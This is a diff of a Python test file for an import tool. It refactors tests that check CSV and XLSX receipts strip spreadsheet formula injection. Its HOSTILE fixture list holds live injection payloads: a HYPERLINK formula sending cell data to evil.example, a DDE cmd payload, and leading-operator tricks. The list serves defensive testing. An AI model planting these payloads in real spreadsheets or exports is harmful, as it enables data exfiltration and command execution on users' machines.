@@ -26,7 +26,7 @@ from desktop.core.journal import Batch, BatchMeta, Item, ItemState
 from desktop.core.receipt import read_receipt_csv, write_receipt
 from desktop.core.safety import safe_cell, text_cells
 from desktop.core.session import ImportSession
-from tests.helpers import TODAY, valid_row, write_csv
+from tests.helpers import TODAY, journal_outcome, valid_row, write_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0", "=1,=2"]
@@ -114,11 +114,11 @@ def hostile_batch() -> tuple[Batch, list[Item]]:
                   updated_at="2026-11-28T10:00:00.000Z", finished_at=None, receipt_path=None,
                   counts={"created": 1, "rejected": 1})
     items = [
-        Item(batch_id=1, source_row=2, position=0, fingerprint="f", payload_hash="p", cycle=2026,
+        Item(id=1, batch_id=1, source_row=2, position=0, fingerprint="f", payload_hash="p", cycle=2026,
              state=ItemState.CREATED, maybe_sent=False, attempts=1, first_sent_at=None, last_sent_at="+1",
              http_status=201, trainee_id="=1+1", trainee_state="@x", confirmed_by="201", messages=(),
              updated_at=None),
-        Item(batch_id=1, source_row=3, position=1, fingerprint="f", payload_hash="p", cycle=2026,
+        Item(id=2, batch_id=1, source_row=3, position=1, fingerprint="f", payload_hash="p", cycle=2026,
              state=ItemState.REJECTED, maybe_sent=False, attempts=1, first_sent_at=None, last_sent_at=None,
              http_status=422, trainee_id=None, trainee_state=None, confirmed_by=None,
              messages=tuple(HOSTILE), updated_at=None),
@@ -152,7 +152,7 @@ def test_history_receipt_copy_uses_the_same_writer(tmp_path, capsys):
     batch, _ = hostile_batch()
     with Journal() as j:
         b = j.start_batch(batch.meta, [NewItem(source_row=2, position=0, fingerprint="f", payload_hash="p", cycle=2026)])
-        j.mark_result(b, 2, ItemState.REJECTED, http_status=422, messages=HOSTILE)
+        journal_outcome(j, b, 2, "rejected", messages=HOSTILE)
     for name in ("copy.csv", "copy.xlsx"):
         assert main(["history", str(b), "--receipt", str(tmp_path / name)]) == 0
     assert dangerous_csv_cells(tmp_path / "copy.csv", "utf-8-sig") == []
